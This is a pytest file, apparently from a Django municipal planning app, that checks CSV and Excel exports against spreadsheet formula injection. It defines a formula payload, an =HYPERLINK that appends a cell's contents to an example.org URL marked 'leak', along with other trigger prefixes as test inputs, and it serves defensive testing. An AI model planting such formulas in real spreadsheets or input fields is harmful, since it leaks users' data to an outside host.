"""Text someone typed never becomes a formula in a downloaded spreadsheet (CSV or Excel)."""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from koers.plans.models import Action, ActionNote, Ambition, Framework
from koers.reports.formats import render
from koers.reports.publishing import live_content

pytestmark = pytest.mark.usefixtures("heerde")
ON = date(2024, 6, 1)
ATTACK = '=HYPERLINK("https://example.org/?leak="&B2,"Meer informatie")'
OTHERS = ["+31 6 1234", "-2+3", "@SUM(A1)", "\tverborgen"]


@pytest.fixture
def typed():
    action = Action.objects.filter(ambition__programme__isnull=False).first()
    action.text = OTHERS[0]
    action.save()
    ActionNote.objects.create(
        action=action, noted_on=date(2024, 5, 1), text=ATTACK, status="started", progress=10,
        public=True,
    )  # fmt: skip
    ambition = Ambition.objects.first()
    ambition.text = ATTACK
    ambition.save()
    return action


def _content():
    framework = Framework.objects.get()
    return live_content(framework.pk, None, ON)


def test_excel_stores_such_text_as_text(typed):
    data = render(_content(), "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [
        cell for sheet in book for row in sheet.iter_rows() for cell in row
        if isinstance(cell.value, str) and (cell.value == ATTACK or cell.value in OTHERS)
    ]  # fmt: skip
    assert {cell.value for cell in cells} >= {ATTACK, OTHERS[0]}
    assert all(cell.data_type == "s" for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_report_csv_puts_a_quote_before_such_text(typed):
    cells = _cells(render(_content(), "csv"))
    assert "'" + OTHERS[0] in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


def test_open_data_csv_puts_a_quote_before_such_text(typed, client):
    framework = Framework.objects.select_related("municipality").get()
    url = reverse("api:open-data", args=["plan", "csv"]) + f"?framework={framework.pk}"
    response = client.get(url)
    assert response.status_code == 200
    cells = _cells(response.content)
    assert "'" + ATTACK in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
